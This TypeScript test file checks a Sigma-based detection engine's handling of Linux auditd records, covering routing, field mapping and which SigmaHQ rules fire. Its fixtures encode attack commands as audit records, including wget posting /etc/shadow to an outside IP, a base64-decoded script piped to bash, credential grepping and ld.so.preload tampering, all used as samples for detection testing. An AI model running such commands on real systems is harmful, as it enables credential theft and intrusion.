/**
 * `product: linux, service: auditd` against events from Vigil's REAL auditd parser: each record
 * satisfies exactly its routes, Sigma's auditd field names map to what the record carries, every
 * SigmaHQ auditd rule compiles, and the rules that should fire on a record do (and no others of
 * the Linux rules folder).
 */
import { existsSync } from 'node:fs';
import { basename, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { AUDIT, SYSLOG_AUDIT } from '../../ingest/formats/auditd-samples.fixture.ts';
import { parseEvent } from '../../ingest/index.ts';
import { compileRules } from '../engine/compile.ts';
import { RuleSet } from '../engine/ruleset.ts';
import { loadSigmaDirectory } from '../sigma/load.ts';
import { evaluateCondition } from './condition.ts';
import { loadPipelines } from './load.ts';
import { mapField, resolveLogsource } from './resolve.ts';

const pipelines = loadPipelines();
const ctx = { received: Date.parse('2026-11-22T12:00:00Z'), assumeTimeZone: 'UTC' };
const AUDITD = { product: 'linux', service: 'auditd' };
const LINUX_RULES = resolve(import.meta.dirname, '../../../../shared/corpus/sigma/rules/linux');

function parsed(raw: string): Record<string, unknown> {
  const out = parseEvent(raw, 'auto', ctx);
  if (!out.ok) throw new Error(`sample did not parse: ${out.reason}`);
  return out.event;
}

function routes(ev: Record<string, unknown>): string[] {
  return pipelines.routes
    .filter((r) => evaluateCondition(r.when, ev))
    .map((r) => `${r.pipeline}/${r.id}`)
    .sort();
}

/** The values the event holds for a Sigma field of the auditd logsource (lists spread). */
function sigmaValues(ev: Record<string, unknown>, field: string): unknown[] {
  const targets = mapField(pipelines, AUDITD, field);
  if (targets === null) throw new Error(`${field} does not map`);
  return targets.flatMap((t) => {
    const v = ev[t];
    return v === undefined ? [] : Array.isArray(v) ? v : [v];
  });
}

/** More records, for the rules (hex where auditd writes hex). */
const MORE = {
  chmod: 'type=EXECVE msg=audit(1795342400.000:1000): argc=3 a0="chmod" a1="777" a2="/tmp/x"',
  wgetPost:
    'type=EXECVE msg=audit(1795342400.000:1001): argc=3 a0="wget" a1="--post-file=/etc/shadow" ' +
    'a2="http://203.0.113.9/"',
  // grep -ri "db password" /etc
  grepPassword:
    'type=EXECVE msg=audit(1795342400.000:1002): argc=4 a0="grep" a1="-ri" a2=64622070617373776F7264 a3="/etc"',
  // bash -c "echo IyEvYmluL2Jhc2gKaWQK | base64 -d | bash"
  base64Shebang:
    'type=EXECVE msg=audit(1795342400.000:1003): argc=3 a0="bash" a1="-c" ' +
    'a2=6563686F2049794576596D6C754C324A686332674B6157514B207C20626173653634202D64207C2062617368',
  preload:
    'type=PATH msg=audit(1795342400.000:1004): item=0 name="/etc/ld.so.preload" inode=5 dev=fd:00 ' +
    'mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
  ls: 'type=EXECVE msg=audit(1795342400.000:1005): argc=2 a0="ls" a1="-la"',
  base64Syscall:
    'type=SYSCALL msg=audit(1795342400.000:1006): arch=c000003e syscall=59 success=yes exit=0 a0=1 ' +
    'a1=2 a2=3 a3=4 items=2 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 ' +
    'egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=2 comm="base64" exe="/usr/bin/base64" key="susp_activity"',
  base64Execve: 'type=EXECVE msg=audit(1795342400.000:1006): argc=2 a0="base64" a1="-d"',
} as const;

describe('auditd records route exactly', () => {
  const cases: [name: string, raw: string, want: string[]][] = [
    [
      'EXECVE: auditd and process start',
      AUDIT.execve,
      ['linux/any', 'linux/auditd', 'linux/process_creation'],
    ],
    [
      'SYSCALL execve: auditd and process start',
      AUDIT.syscallExecve,
      ['linux/any', 'linux/auditd', 'linux/process_creation'],
    ],
    ['PATH lookup: auditd only', AUDIT.path, ['linux/any', 'linux/auditd']],
    [
      'PATH CREATE: auditd and file creation',
      AUDIT.pathCreate,
      ['linux/any', 'linux/auditd', 'linux/file_event'],
    ],
    ['PROCTITLE: auditd only (not a process start)', AUDIT.proctitle, ['linux/any', 'linux/auditd']],
    ['SYSCALL personality: auditd only', AUDIT.enriched, ['linux/any', 'linux/auditd']],
    [
      'USER_AUTH over syslog (authpriv): auditd, not the syslog auth service',
      SYSLOG_AUDIT.audispd,
      ['linux/any', 'linux/auditd'],
    ],
    ['AVC from the kernel over syslog', SYSLOG_AUDIT.kernel, ['linux/any', 'linux/auditd']],
  ];
  for (const [name, raw, want] of cases) it(name, () => expect(routes(parsed(raw))).toEqual(want));

  it('the auditd logsource is the auditd parser events, and nothing else', () => {
    const r = resolveLogsource(pipelines, AUDITD);
    expect(r.routes).toEqual(['linux/auditd']);
    expect(evaluateCondition(r.conditions, parsed(AUDIT.cwd))).toBe(true);
    const sshd = parsed('<38>Nov 22 10:00:00 web1 sshd[123]: Failed password for root from 198.51.100.7');
    const ecs = parsed(
      JSON.stringify({
        event: { module: 'auditd', category: ['process'], type: ['start'] },
        host: { os: { type: 'linux' } },
      }),
    );
    expect(evaluateCondition(r.conditions, sshd)).toBe(false);
    expect(evaluateCondition(r.conditions, ecs)).toBe(false);
  });
});

describe("Sigma's auditd field names map to the record's values", () => {
  const cases: [raw: string, fields: Record<string, string>][] = [
    [AUDIT.execve, { type: 'EXECVE', a0: 'curl', a3: '/tmp/.x', a4: 'http://203.0.113.9/a b.sh', argc: '5' }],
    [
      AUDIT.syscallExecve,
      {
        type: 'SYSCALL',
        exe: '/usr/bin/curl',
        comm: 'curl',
        key: 'susp_activity',
        SYSCALL: 'execve',
        euid: '33',
        auid: '1000',
      },
    ],
    [AUDIT.syscallExecve, { syscall: 'execve' }],
    [AUDIT.enriched, { SYSCALL: 'personality', syscall: '135', a0: '40000', AUID: 'bob' }],
    [AUDIT.pathCreate, { type: 'PATH', name: '/etc/systemd/system/backdoor.service', nametype: 'CREATE' }],
    [AUDIT.pathHex, { name: '/tmp/a b.sh' }],
    [AUDIT.serviceStop, { type: 'SERVICE_STOP', unit: 'firewalld' }],
    [AUDIT.userAuthFailed, { acct: 'root', res: 'failed', terminal: 'ssh', addr: '203.0.113.50' }],
    [AUDIT.proctitle, { proctitle: 'curl -s http://203.0.113.9/x.sh -o /tmp/.x' }],
    [AUDIT.cwd, { cwd: '/var/www/html' }],
  ];
  for (const [raw, fields] of cases) {
    it(`${raw.slice(5, raw.indexOf(' '))}: ${Object.keys(fields).join(', ')}`, () => {
      const ev = parsed(raw);
      for (const [field, want] of Object.entries(fields))
        expect(sigmaValues(ev, field), field).toContain(want);
    });
  }
});

describe.skipIf(!existsSync(LINUX_RULES))('the SigmaHQ Linux rules over auditd records', () => {
  const loaded = loadSigmaDirectory(LINUX_RULES);
  const { compiled, failed } = compileRules(loaded.rules, pipelines, { placeholders: {} });
  const auditd = loaded.rules.filter((r) => r.logsource.service === 'auditd');
  const set = new RuleSet(compiled);
  const hits = (raw: string): string[] =>
    set
      .evaluate(parsed(raw))
      .hits.map((h) => basename(h.rule.file, '.yml'))
      .sort();

  it('compiles every rule of rules/linux/auditd', () => {
    const auditdFailed = failed.filter((f) => f.file.includes('/auditd/'));
    console.log(
      `SigmaHQ linux/auditd: ${auditd.length} rules, ${auditd.length - auditdFailed.length} compiled`,
    );
    expect(auditd.length).toBeGreaterThanOrEqual(50);
    expect(auditdFailed).toEqual([]);
  });

  const cases: [name: string, raw: string, want: string[]][] = [
    [
      'chmod 777 (EXECVE a0/a1)',
      MORE.chmod,
      ['lnx_auditd_file_or_folder_permissions', 'lnx_auditd_susp_cmds'],
    ],
    ['wget --post-file (EXECVE)', MORE.wgetPost, ['lnx_auditd_data_exfil_wget']],
    [
      'curl run by www-data with a rule key (SYSCALL: key, SYSCALL+euid, and process_creation Image)',
      AUDIT.syscallExecve,
      ['lnx_auditd_susp_c2_commands', 'lnx_auditd_web_rce', 'proc_creation_lnx_curl_usage'],
    ],
    [
      'base64 watched by key susp_activity (SYSCALL key)',
      MORE.base64Syscall,
      ['lnx_auditd_susp_c2_commands'],
    ],
    [
      'base64 shebang piped to bash, argument hex-encoded (process_creation CommandLine, keywords)',
      MORE.base64Shebang,
      [
        'lnx_shell_susp_commands',
        'proc_creation_lnx_base64_execution',
        'proc_creation_lnx_base64_shebang_cli',
        'proc_creation_lnx_susp_pipe_shell',
      ],
    ],
    [
      'grep for a password, argument hex-encoded (EXECVE + keywords on the decoded message)',
      MORE.grepPassword,
      ['lnx_auditd_find_cred_in_files'],
    ],
    ['PATH /etc/ld.so.preload', MORE.preload, ['lnx_auditd_ld_so_preload_mod', 'lnx_ldso_preload_injection']],
    ['PATH CREATE of a systemd unit', AUDIT.pathCreate, ['lnx_auditd_systemd_service_creation']],
    [
      'ENRICHED SYSCALL personality(ADDR_NO_RANDOMIZE)',
      AUDIT.enriched,
      ['lnx_auditd_disable_aslr_protection'],
    ],
    ['SERVICE_STOP firewalld', AUDIT.serviceStop, ['lnx_auditd_disable_system_firewall']],
    ['ADD_USER', AUDIT.addUser, ['lnx_auditd_create_account']],
    ['ls -la: nothing', MORE.ls, []],
    ['CWD: nothing', AUDIT.cwd, []],
    ['PROCTITLE: nothing', AUDIT.proctitle, []],
    ['USER_LOGIN: nothing', AUDIT.userLogin, []],
  ];
  for (const [name, raw, want] of cases) it(name, () => expect(hits(raw)).toEqual(want));

  it('records are not joined: a rule needing exe and arguments together matches neither record', () => {
    // proc_creation_lnx_base64_decode: Image|endswith /base64 AND CommandLine|contains -d
    expect(hits(MORE.base64Syscall)).not.toContain('proc_creation_lnx_base64_decode');
    expect(hits(MORE.base64Execve)).toEqual([]);
  });
});
